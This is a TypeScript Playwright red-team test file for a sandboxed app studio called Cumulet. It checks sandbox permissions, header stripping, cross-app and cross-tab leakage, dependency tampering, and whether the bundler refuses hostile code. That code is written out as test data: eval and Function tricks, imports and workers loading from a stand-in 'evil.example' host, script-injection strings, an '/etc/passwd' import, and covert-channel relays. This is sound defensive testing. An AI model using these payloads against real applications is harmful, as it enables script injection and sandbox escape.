import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { required } from "../support/environment";
import { Project } from "../support/project";
import { Studio } from "../support/studio";
import { ActionApp } from "./support/actions";
import { expect, test } from "./support/test";

const CALM = "{ idle: () => 1 }";
/** What attackers would write, and the bundler refuses before anything runs. */
const LITERAL: Record<string, string> = {
  eval: 'eval("1")',
  "eval-by-window": 'window["ev" + "al"]("1")',
  function: 'new Function("return 1")()',
  constructor: '(() => 0).constructor("return 1")()',
  "async-constructor": 'Object.getPrototypeOf(async () => 0).constructor("return 1")()',
  timer: 'setTimeout("run()", 1)',
  "import-address": 'import "https://evil.example/x.js"',
  "import-computed": "import(location.hash.slice(1))",
  "import-data": 'import "data:text/javascript,1"',
  "import-blob": 'import "blob:null/1"',
  "import-outside": 'import "../../../etc/passwd"',
  "import-node": 'import "node:fs"',
  "import-unknown": 'import "left-pad-of-evil"',
  "import-scripts": 'importScripts("https://evil.example/x.js")',
  worker: 'new Worker("https://evil.example/x.js")',
  "shared-worker": 'new SharedWorker("x.js")',
  "script-address": 'location.href = "javascript:run()"',
  "written-script": `document.write("<script src='https://evil.example/x.js'></scr" + "ipt>")`,
  handler: 'export const a = <button onclick="run()">x</button>',
  link: 'export const a = <a href="javascript:run()">x</a>',
};

/** What React and the policies refuse anyway is a warning. */
const WARNED = ["script-address", "handler", "link"];

test("the frame's sandbox holds exactly two permissions", async ({ studio, page, rows }) => {
  await ActionApp.start(studio, CALM);
  const shell = page.frames().find((frame) => frame.url().includes("/sandbox/shell.html"));
  const sandbox = await shell?.locator("iframe").getAttribute("sandbox");
  rows.check("E01", "attribute", sandbox === "allow-scripts allow-forms", String(sandbox));
  const response = await page.request.get("/sandbox/shell.html");
  const html = await response.text();
  rows.check(
    "E01",
    "nowhere-same-origin",
    !html.includes("allow-same-origin") &&
      !(response.headers()["content-security-policy"] ?? "").includes("allow-same-origin"),
  );
});

test.describe("headers on the way", () => {
  // Its answers can't be intercepted.
  test.use({ serviceWorkers: "block" });

  test("a shell that lost its headers shows no app", async ({ studio, page, rows }) => {
    await ActionApp.start(studio, CALM);
    const losses: Record<string, (headers: Record<string, string>) => void> = {
      "all-policies": (headers) => {
        delete headers["content-security-policy"];
      },
      "sandbox-directive": (headers) => {
        headers["content-security-policy"] = (headers["content-security-policy"] ?? "").replace(
          /sandbox [^;]*; /,
          "",
        );
      },
      "script-policy": (headers) => {
        headers["content-security-policy"] = "sandbox allow-scripts allow-forms";
      },
      "script-policy-with-eval": (headers) => {
        headers["content-security-policy"] = (headers["content-security-policy"] ?? "").replace(
          "script-src ",
          "script-src 'unsafe-eval' ",
        );
      },
    };
    for (const [name, lose] of Object.entries(losses)) {
      await page.route("**/sandbox/shell.html*", async (route) => {
        const response = await route.fetch();
        const headers = response.headers();
        lose(headers);
        await route.fulfill({ response, headers });
      });
      await page.getByRole("button", { name: /^(Reload app|Run app)$/ }).click();
      const notice = page.locator(".preview-notices");
      await expect(notice).toContainText(/sandbox/i, { timeout: 15_000 });
      const said = ((await notice.textContent()) ?? "").trim();
      const shown = await studio.app
        .getByRole("button", { name: "idle" })
        .isVisible()
        .catch(() => false);
      rows.check("E13", name, !shown, said);
      await page.unrouteAll({ behavior: "wait" });
    }
  });
});

test("nothing of an app stays for the next one", async ({ context, studio, page, rows }) => {
  const read = `() => JSON.stringify([window.name, location.href, history.state, history.length, localStorage.length, sessionStorage.length, document.cookie, document.referrer])`;
  const first = await ActionApp.start(
    studio,
    `{
      leave: () => { window.name = "secret"; location.hash = "#secret"; history.pushState({ secret: 1 }, "", "#secret"); sessionStorage.setItem("secret", "1"); document.cookie = "secret=1"; return 1; },
      read: ${read},
    }`,
  );
  await first.run("leave");
  await first.restart();
  const same = await first.run("read");
  // The address stays the app's own: a reload begins where it was.
  const others = same.replace("about:srcdoc#secret", "");
  rows.check("X14", "same-app-in-a-new-frame", !others.includes("secret"), same);
  await first.run("leave");
  const second = await ActionApp.start(studio, `{ read: ${read} }`);
  const next = await second.run("read");
  rows.check("X14", "another-app", !next.includes("secret"), next);

  const listen = `
    const heard: string[] = [];
    const note = (from: string) => (event: any) => heard.push(from + ":" + JSON.stringify(event.data ?? event.newValue));
    new BroadcastChannel("covert").onmessage = note("channel");
    window.addEventListener("storage", note("storage"));
    window.addEventListener("message", note("window"));
    let shared = "none";
    try {
      const make = win[["Shared", "Worker"].join("")];
      const worker = new make("data:text/javascript,onconnect=(e)=>{globalThis.all=(globalThis.all||[]).concat(e.ports[0]);e.ports[0].onmessage=(m)=>globalThis.all.forEach((p)=>p.postMessage(m.data))}", "covert");
      worker.port.onmessage = note("shared");
      shared = worker;
    } catch (error) { shared = String(error); }
  `;
  const talk = `{
    talk: async () => {
      new BroadcastChannel("covert").postMessage("secret");
      localStorage.setItem("covert", "secret");
      if (typeof shared === "object") (shared as any).port.postMessage("secret");
      try { for (let n = 0; n < 5; n++) win.top.frames[n]?.frames[0]?.postMessage("secret", "*"); } catch {}
      try { window.open("", "covert")?.postMessage("secret", "*"); } catch {}
      try { await navigator.locks.request("covert", () => 1); } catch {}
      return 1;
    },
    heard: () => JSON.stringify(heard),
  }`;
  const speaker = await ActionApp.start(studio, talk, listen);
  const tab = await context.newPage();
  const listener = await ActionApp.start(new Studio(tab), talk, listen);
  await speaker.run("talk");
  await tab.waitForTimeout(500);
  const got = await listener.run("heard");
  rows.check("X15", "another-tab", !got.includes("secret"), got);
  await tab.close();
  await page.bringToFront();
});

test("the bundler refuses what an attacker writes plainly", async ({ rows }) => {
  for (const [name, text] of Object.entries(LITERAL)) {
    const findings = check({
      "src/App.tsx": `export default function App() { return <p>x</p>; }\nimport "./attack";\n`,
      "src/attack.tsx": `${text};\n`,
    });
    const told = WARNED.includes(name)
      ? /warning\[(script-url|html-attribute)\]/.test(findings.text)
      : findings.refused;
    rows.check("E07", `bundler-${name}`, told, findings.text.slice(0, 200));
  }
});

test("hostile source breaks nothing", async ({ studio, page, host, rows }) => {
  const deep = `${"(".repeat(100_000)}1${")".repeat(100_000)}`;
  const nested = `${"[".repeat(50_000)}${"]".repeat(50_000)}`;
  const sources: Record<string, string> = {
    "100000-parentheses": `export default ${deep};`,
    "100000-brackets": `export default ${nested};`,
    "large-file": `export default "${"x".repeat(1_040_000)}";`,
    "unfinished-template": `export default \`\${${"`${".repeat(20_000)}`,
    "jsx-depth": `export default () => ${"<a>".repeat(20_000)}`,
    "null-and-marks": 'export default "\\u0000\\u2028\\u2029\\ufeff";\u2028\u0000',
  };
  for (const [name, text] of Object.entries(sources)) {
    const { status, text: said } = check({ "src/App.tsx": text });
    rows.check(
      "D11",
      `bundler-${name}`,
      status !== null && status < 100 && !/panicked|overflow/.test(said),
      `ended with ${status}: ${said.slice(0, 150)}`,
    );
  }
  const project = await Project.start(studio, {
    "src/App.tsx": `
const texts = ["</script><script>parent.broke = 1</script>", "<!-- <script>", "]]>", "\u2028\u2029", "\${1}", "\`"];
// </script> <!-- <script>
export default function App() { return <ul role="list">{texts.map((text) => <li key={text}>{text}</li>)}</ul>; }
`,
  });
  const list = studio.app.getByRole("list");
  await expect(list).toContainText("</script><script>parent.broke = 1</script>");
  rows.check("D11", "text-that-ends-scripts", (await list.getByRole("listitem").count()) === 6);
  await project.write("src/App.tsx", `export default ${deep};`);
  await expect(studio.errors).toBeVisible();
  rows.check("D11", "studio-shows-the-error", host.errors.length === 0, host.errors.join("; "));
  await project.write("src/App.tsx", "export default function App() { return <p>calm</p>; }");
  await expect(studio.app.getByText("calm")).toBeVisible();
  rows.check("D11", "studio-builds-again", true);
  await page.goto("/");
});

test.describe("files on the way", () => {
  // Its answers can't be intercepted.
  test.use({ serviceWorkers: "block" });

  test("a dependency file that was changed is not run", async ({ studio, page, rows }) => {
    const files = {
      "src/App.tsx": `import { nanoid } from "nanoid";\nexport default function App() { return <p>app {nanoid().length}</p>; }\n`,
    };
    await page.route("**/deps/*.js", async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: `${await response.text()}\n;globalThis.tampered = 1;` });
    });
    const app = Project.start(studio, files);
    const notice = page.locator(".preview-notices");
    await expect(notice).toContainText(/integrity/, { timeout: 20_000 });
    rows.check("D12", "changed-on-the-way", true, ((await notice.textContent()) ?? "").trim());
    await page.unrouteAll({ behavior: "wait" });
    await page.getByRole("button", { name: "Run again" }).click();
    await app;
    await expect(studio.app.getByText("app 21")).toBeVisible();
    const changed = await page.evaluate(async () => {
      const cache = await caches.open("cumulet-deps-1");
      const kept = await cache.keys();
      for (const request of kept) {
        const text = await (await cache.match(request))?.text();
        await cache.put(request, new Response(`document.title = "tampered";\n${text}`));
      }
      return kept.length;
    });
    await page.reload();
    await studio.ready();
    await expect(studio.app.getByText("app 21")).toBeVisible();
    const title = await page.frames().at(-1)?.title();
    rows.check(
      "D12",
      "changed-in-the-cache",
      changed > 0 && title !== "tampered",
      `${changed} files, title ${title}`,
    );
  });
});

/** Checks an app with the bundler itself; `status` is null when it was killed. */
function check(files: Record<string, string>): { status: number | null; refused: boolean; text: string } {
  const folder = mkdtempSync(join(tmpdir(), "cumulet-redteam-"));
  mkdirSync(join(folder, "src"));
  for (const [path, text] of Object.entries(files)) writeFileSync(join(folder, path), text);
  try {
    const args = ["check", "--site", required("CUMULET_SITE"), folder];
    const text = execFileSync(required("CUMULET_SERVER"), args, {
      encoding: "utf8",
      stdio: "pipe",
      timeout: 30_000,
    });
    return { status: 0, refused: false, text };
  } catch (error) {
    const {
      status = null,
      stdout = "",
      stderr = "",
    } = error as { status?: number | null; stdout?: string; stderr?: string };
    const text = `${stdout}${stderr}`;
    return { status, refused: status === 1 && text.includes("error["), text };
  } finally {
    rmSync(folder, { recursive: true });
  }
}
